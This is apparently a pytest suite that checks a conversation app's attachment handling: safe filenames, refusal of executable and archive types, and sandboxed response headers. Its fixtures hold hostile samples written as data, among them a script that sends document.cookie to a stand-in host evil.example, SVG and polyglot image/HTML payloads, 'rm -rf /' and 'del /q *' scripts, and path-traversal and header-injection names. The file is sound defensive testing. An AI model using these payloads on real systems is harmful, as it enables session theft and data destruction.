"""No file that somebody sends is run by a browser or passes for what it is not, whatever it is called."""

import pytest

from conversations.errors import FileNotAccepted, FileTooLarge
from conversations.files import IMAGES, LARGEST, attachment_of, safe_name
from conversations.wire import file_response
from tests.conftest import MONDAY_NOON

SCRIPT = b"<script>document.title='owned';fetch('//evil.example/'+document.cookie)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="document.title=\'owned\'">' + SCRIPT + b"</svg>"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
CONTENTS = {
    "svg": SVG,
    "html": b"<!DOCTYPE html><html><body>" + SCRIPT,
    "bare script": SCRIPT,
    "xhtml": b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">' + SCRIPT + b"</html>",
    "xslt": b'<?xml-stylesheet type="text/xsl" href="data:text/xml,x"?><x/>',
    "javascript": b"document.title='owned'",
    "html after white space": b"\n\n\t <html>" + SCRIPT,
    "html with a mark": b"\xef\xbb\xbf<html>" + SCRIPT,
    "gif and script": b"GIF89a/*" + SCRIPT + b"*/=1;document.title='owned'",
    "png and html": PNG + SCRIPT,
    "jpeg and html": b"\xff\xd8\xff\xe0<html>" + SCRIPT,
    "pdf and html": b"%PDF-1.7\n<html>" + SCRIPT + b"\n/JavaScript (app.alert(1))",
    "webp and html": b"RIFF<!--WEBP--><html>" + SCRIPT,
    "mime mail": b"Content-Type: text/html\r\n\r\n" + SCRIPT,
    "batch": b"@echo off\r\ndel /q *",
    "shell": b"#!/bin/sh\nrm -rf /",
}
REFUSED = {
    "program": b"MZ\x90\x00\x03",
    "elf": b"\x7fELF\x02\x01\x01\x00",
    "zip": b"PK\x03\x04\x14\x00\x00\x00\x08\x00\xff",
    "office": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
    "utf-16 html": "<html>".encode("utf-16"),
    "utf-7 html": b"+ADw-script+AD4-\xff",
    "gzip": b"\x1f\x8b\x08\x00",
    "bitmap": b"BM\x00\x00\x00",
    "icon": b"\x00\x00\x01\x00",
    "nothing": b"",
}
NAMES = ("x.svg", "x.html", "x.png", "x.pdf", "x.txt", "x", ".html", "x.png.html", "x.html\u202egnp.", "a/../x.hta")


class TestNames:
    """What a file is called when it is saved."""

    @pytest.mark.parametrize(
        ("name", "kind", "safe"),
        [
            ("error.log", "text/plain", "error.log"),
            ("Übersicht 2024.CSV", "text/plain", "Übersicht 2024.CSV"),
            ("shot.jpeg", "image/jpeg", "shot.jpeg"),
            ("page.html", "text/plain", "page.html.txt"),
            ("drawing.svg", "text/plain", "drawing.svg.txt"),
            ("run.bat", "text/plain", "run.bat.txt"),
            ("shot.png", "text/plain", "shot.png.txt"),
            ("page.html", "image/gif", "page.html.gif"),
            ("invoice\u202efdp.exe", "application/pdf", "invoicefdp.exe.pdf"),
            ("C:\\fakepath\\a.png", "image/png", "a.png"),
            ("../../etc/passwd", "text/plain", "passwd.txt"),
            (".htaccess", "text/plain", "htaccess.txt"),
            ("..", "image/png", "file.png"),
            ("\u200b\u2066", "image/png", "file.png"),
            ('a"b<c>|d*?:e\r\nX-Header: 1.txt', "text/plain", "abcde X-Header 1.txt"),
            ("a.txt. .", "text/plain", "a.txt"),
        ],
    )
    def test_misleads_nobody(self, name: str, kind: str, safe: str):
        """A name has no folders, nothing invisible, no sign a system reads, and the ending of what the file is."""
        assert safe_name(name, kind) == safe

    def test_is_not_long(self):
        """A name of 10,000 characters keeps its end and has at most 120 characters."""
        assert len(safe_name("x" * 10_000 + ".html", "text/plain")) <= 120
        assert safe_name("x" * 10_000 + "1.png", "image/png").endswith("1.png")
        assert len(safe_name("x" * 10_000, "image/jpeg")) <= 120


@pytest.mark.parametrize("content", REFUSED.values(), ids=REFUSED)
def test_other_kinds_are_refused(content: bytes):
    """What is neither a raster image, nor PDF, nor plain text is refused, whatever it is called."""
    for name in NAMES:
        with pytest.raises(FileNotAccepted):
            attachment_of("c", name, content, MONDAY_NOON)


def test_too_much_is_refused():
    """A byte more than 10 MiB is refused."""
    attachment_of("c", "x.txt", b"x" * LARGEST, MONDAY_NOON)
    with pytest.raises(FileTooLarge):
        attachment_of("c", "x.txt", b"x" * (LARGEST + 1), MONDAY_NOON)


@pytest.mark.parametrize("content", CONTENTS.values(), ids=CONTENTS)
def test_what_comes_back_runs_nowhere(content: bytes):
    """Only raster images may be shown inline; everything comes with its true type, unsniffed, in a sandbox."""
    for name in NAMES:
        file = attachment_of("c", name, content, MONDAY_NOON)
        headers = file_response(file.name, file.type, file.content).headers
        assert file.type in (*IMAGES, "application/pdf", "text/plain")
        assert headers["content-type"].partition(";")[0] == file.type
        inline = headers["content-disposition"].startswith("inline")
        assert inline == (file.type in IMAGES)
        assert headers["x-content-type-options"] == "nosniff"
        assert headers["content-security-policy"] == "default-src 'none'; sandbox"
        assert headers["cross-origin-resource-policy"] == "same-origin"
        assert headers["content-disposition"].isascii()
